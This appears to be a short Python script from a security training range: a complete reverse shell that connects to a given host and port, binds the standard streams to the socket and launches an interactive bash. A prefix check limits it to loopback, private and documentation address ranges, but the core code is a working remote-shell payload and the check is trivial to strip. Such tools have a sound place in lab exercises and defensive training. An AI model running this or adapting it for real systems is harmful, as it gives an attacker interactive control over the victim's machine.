# Reverse shell of the recorded story; works only towards the addresses of the range.
import os
import socket
import sys

host, port = sys.argv[1], int(sys.argv[2])
if not host.startswith(("127.", "10.20.", "198.51.100.", "203.0.113.")):
    sys.exit("outside the range")
conn = socket.create_connection((host, port))
for handle in (0, 1, 2):
    os.dup2(conn.fileno(), handle)
os.execv("/bin/bash", ["bash", "-i"])
